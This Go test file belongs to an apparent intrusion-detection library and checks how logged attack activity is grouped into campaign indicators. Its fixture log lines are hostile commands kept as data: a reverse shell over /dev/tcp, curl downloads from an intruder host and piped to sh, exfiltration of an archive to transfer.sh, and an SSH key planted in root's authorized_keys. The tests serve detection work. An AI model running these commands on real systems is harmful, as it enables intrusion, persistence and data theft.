package campaign

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-ids/tocsin"
)

// roles are the indicators of a campaign by value.
func roles(c *tocsin.Campaign) map[string]string {
	all := map[string]string{}
	for _, x := range slices.Concat(c.Used, c.Touched) {
		all[x.Value] = x.Role
	}
	return all
}

func TestIndicators(t *testing.T) {
	const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExampleEx lab@intruder.example"
	lines := server + `
100 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | connect command-and-control/T1059.004 unknown 4 1 | host:web1 | audit.log | bash -c "bash -i >& /dev/tcp/198.51.100.66/443"
101 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | copy command-and-control/T1105 worked 2 1 | host:get.intruder.example | audit.log | curl http://get.intruder.example/x.sh -o /tmp/x.sh
102 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | copy command-and-control/T1105 worked 2 1 | domain:raw.githubusercontent.com | audit.log | curl https://raw.githubusercontent.com/a/b/linpeas.sh
103 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | send exfiltration/T1567 worked 2 1 | domain:transfer.sh | audit.log | curl -T a.tgz https://transfer.sh/a.tgz
104 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | write persistence/T1098.004 worked 2 1 | host:web1 | audit.log | bash -c "echo '` + key + `' >> /root/.ssh/authorized_keys"
105 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | connect command-and-control/T1571 worked 0.6 1 | address:192.0.2.61 | flow.csv | 192.0.2.61:8080
106 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | connect command-and-control/T1071 worked 2 1 | address:10.0.0.99 | flow.csv | 10.0.0.99:443
107 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | send command-and-control/T1071.003 unknown 2 1 | address:192.0.2.25 | flow.csv | mail sent straight to 192.0.2.25
108 | address:203.0.113.9 | session:web1/7 user:web1\ann | web1 | connect command-and-control/T1071 worked 2 1 | address:104.16.0.9 | flow.csv | tls to 104.16.0.9:443
`
	actors := acted(t, lines)
	for _, a := range actors {
		for i := range a.Deeds {
			switch d := &a.Deeds[i]; {
			case strings.Contains(d.Text, "/dev/tcp/"):
				d.Marks = []string{"callback:198.51.100.66:443"}
			case strings.HasPrefix(d.Text, "GET /admin"):
				d.Marks = []string{"agent:curl/8.5.0", "agent:fieldmouse/0.4", "agent:ja3:0123456789abcdef0123456789abcdef"}
			}
		}
	}
	c := build(actors).Campaigns[0]
	got := roles(c)
	for value, want := range map[string]string{
		"203.0.113.9": "source", "198.51.100.66": "callback", "get.intruder.example": "download", "http://get.intruder.example/x.sh": "download", "203.0.113.80": "drop", "http://203.0.113.80/up": "drop",
		`web1\svc-copy`: "account", key: "key", "fieldmouse/0.4": "client",
		"raw.githubusercontent.com": "provider", "transfer.sh": "provider", "104.16.0.9": "provider", "192.0.2.61": "contacted", "192.0.2.25": "mail", "10.0.0.99": "internal",
		"curl/8.5.0": "", "ja3:0123456789abcdef0123456789abcdef": "", "web1": "", "https://transfer.sh/a.tgz": "", "other": "",
	} {
		if got[value] != want {
			t.Errorf("%s: %q, want %q", value, got[value], want)
		}
	}
	for _, x := range c.Used {
		if touched(x.Role) || x.Why == "" || x.Place.Source == "" || x.First.IsZero() || x.Last.Before(x.First) {
			t.Errorf("%+v", x)
		}
		if x.Kind == "address" && !tocsin.Internet(x.Value) {
			t.Errorf("%s is used", x.Value)
		}
	}
	for _, x := range c.Touched {
		if !touched(x.Role) || x.Why == "" || slices.Contains(c.Marks, "callback:"+x.Value) || slices.Contains(c.Marks, "address:"+x.Value) {
			t.Errorf("%+v", x)
		}
	}
	if !slices.Contains(c.Marks, "address:203.0.113.9") || !slices.Contains(c.Marks, "callback:get.intruder.example") {
		t.Errorf("%q", c.Marks)
	}
}

// An address from which accounts were used in ordinary ways before is not an intruder's alone.
func TestSharedAddress(t *testing.T) {
	for _, tt := range []struct{ name, lines, want string }{
		{"the intruder's own", server, "source"},
		{"that of two accounts", strings.ReplaceAll(`-500 | A | A | web2 | login - worked 0 1 | host:web2 user:web2\bob | auth.log | login as bob
-400 | A | A | web2 | login - worked 0 1 | host:web2 user:web2\eve | auth.log | login as eve
`, "A", "address:203.0.113.9") + server, "shared"},
		{"that of one account for days", fmt.Sprintf("%d | %s | %s | web1 | login - worked 0 1 | host:web1 user:web1\\ann | auth.log | login as ann\n", -3*24*3600, "address:203.0.113.9", "address:203.0.113.9") + server, "shared"},
		{"a content network's", strings.ReplaceAll(server, "203.0.113.9", "172.67.0.9"), "provider"},
	} {
		c := onlyCampaign(t, strings.TrimSpace(tt.lines))
		address := "203.0.113.9"
		if tt.want == "provider" {
			address = "172.67.0.9"
		}
		if got := roles(c)[address]; got != tt.want {
			t.Errorf("%s: %q, want %q", tt.name, got, tt.want)
		}
	}
}

// Where somebody only logged in and then did an administrator's work, nothing shows that his address is hostile.
func TestAdministratorsAddress(t *testing.T) {
	c := onlyCampaign(t, `
0  | address:198.51.100.5 | address:198.51.100.5 session:web1/3 | web1 | login - worked 0 1 | host:web1 user:web1\ann | auth.log | login as ann
10 | address:198.51.100.5 | session:web1/3 user:web1\ann | web1 | write persistence/T1053.003 worked 2 1 | host:web1 | audit.log | tee /etc/cron.d/site
20 | address:198.51.100.5 | session:web1/3 user:web1\ann | web1 | create persistence/T1136.001 worked 0.6 1 | host:web1 | audit.log | useradd carol
30 | address:198.51.100.5 | session:web1/3 user:web1\ann | web1 | copy collection/T1560.001 worked 2 1 | host:web1 | audit.log | tar czf /tmp/site.tgz /srv
`)
	if c.Level >= tocsin.High {
		t.Fatalf("level %s", c.Level)
	}
	if got := roles(c)["198.51.100.5"]; got != "near" {
		t.Errorf("%q", got)
	}
}

// Of a run of like deeds each target is told with when and where it was named first.
func TestSeenInRun(t *testing.T) {
	actors := acted(t, server+`
200 | address:203.0.113.9 | user:web1\ann | web1 | copy command-and-control/T1105 worked 2 3 | domain:a.intruder.example domain:b.intruder.example | http.log | GET http://a.intruder.example/1
`)
	m := actors[0]
	d := &m.Deeds[len(m.Deeds)-1]
	d.Tool = "wget"
	d.Last = d.Time.Add(9 * time.Second)
	d.Spans = []tocsin.Span{{Source: "http.log", From: 50, To: 52}}
	for i, on := range []string{"a.intruder.example", "b.intruder.example", "b.intruder.example"} {
		m.Ticks = append(m.Ticks, tocsin.Ticks{{Time: d.Time.Add(time.Duration(i) * 3 * time.Second).UnixNano(), Record: uint32(50 + i), Kind: tickKind(d), Target: hash32(on), Tactic: 12, Outcome: tocsin.Worked}})
	}
	c := build(actors).Campaigns[0]
	for _, x := range c.Used {
		if x.Value == "b.intruder.example" && (x.Place.Record != 51 || !x.First.Equal(d.Time.Add(3*time.Second)) || !x.Last.Equal(d.Time.Add(6*time.Second))) {
			t.Errorf("%+v", x)
		}
	}
	if roles(c)["b.intruder.example"] != "download" {
		t.Errorf("%v", roles(c))
	}
	last := c.Key[len(c.Key)-1]
	if last.Kind != "last" || !last.Time.Equal(c.Last) || !strings.Contains(last.What, "3 times alike") {
		t.Errorf("%+v", last)
	}
}

func TestURLsIn(t *testing.T) {
	got := urlsIn(`curl -s "http://a.example/x?y=1" | sh; wget https://b.example:8443/z; scp x ssh://c.example; echo http://`)
	if want := []string{"http://a.example/x?y=1", "https://b.example:8443/z", "http://"}; !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
}
